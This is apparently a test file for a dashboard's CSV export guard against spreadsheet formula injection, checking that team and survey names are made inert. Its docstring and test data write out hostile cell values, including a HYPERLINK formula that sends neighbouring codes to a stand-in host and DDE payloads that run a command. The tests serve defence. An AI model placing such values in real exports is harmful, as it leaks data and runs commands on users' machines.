"""Attack (issue 11, item 11): a formula in a name, run by the spreadsheet that opens a CSV.

An admin-written team name such as ``=HYPERLINK("https://evil.example/?"&A2,"Open")`` went into
the dashboard's code-sheet CSV unguarded: opened in a spreadsheet it becomes a live link that sends
the codes next to it away. Every CSV TeamPulse writes now passes its text cells through one guard,
``pulse.ops.exports.neutralise_formula``.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from dashboard.code_sheets import codes_csv
from pulse.ops.exports import neutralise_formula, write_frame

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&C2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",  # after leading spaces too
]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(("\t", "\r")) or cell.lstrip().startswith(("=", "+", "-", "@"))


def test_the_code_sheet_csv_guards_team_and_survey_names():
    for name in HOSTILE:
        rows = cells(codes_csv(["ABCD-EFGH-JKMN-PQRS"], name, name))
        assert rows[1] == ["'" + name, "'" + name, "ABCD-EFGH-JKMN-PQRS"]


def test_an_export_file_guards_its_text_cells(tmp_path):
    frame = pd.DataFrame({"team": HOSTILE, "mean": [-1.5] * len(HOSTILE)})
    written = write_frame(frame, tmp_path / "team_results", "csv")
    rows = cells(written.read_bytes())[1:]
    assert not any(runs_as_formula(team) for team, _ in rows)
    assert {mean for _, mean in rows} == {"-1.5"}  # numbers stay numbers


@given(st.text(alphabet=st.sampled_from([*STARTS, " ", "a", "1", "'", "\n"]), max_size=8))
def test_no_guarded_text_starts_a_formula_and_plain_text_is_untouched(text):
    guarded = neutralise_formula(text)
    assert not runs_as_formula(guarded)
    if not runs_as_formula(text):
        assert guarded == text
    else:
        assert guarded == "'" + text  # the text itself is kept, only made inert
